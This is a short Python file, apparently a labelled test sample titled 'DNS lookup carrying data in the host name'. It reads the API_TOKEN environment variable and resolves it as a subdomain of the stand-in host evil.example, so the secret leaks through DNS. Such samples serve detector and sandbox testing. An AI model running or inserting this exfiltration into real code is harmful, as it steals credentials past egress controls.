# attack-class: 11
# title: DNS lookup carrying data in the host name
# why: gethostbyname leaks a secret to the attacker DNS server even without TCP egress

import os
import socket

secret = os.environ.get("API_TOKEN", "none")[:40]
socket.gethostbyname(f"{secret}.x.evil.example")
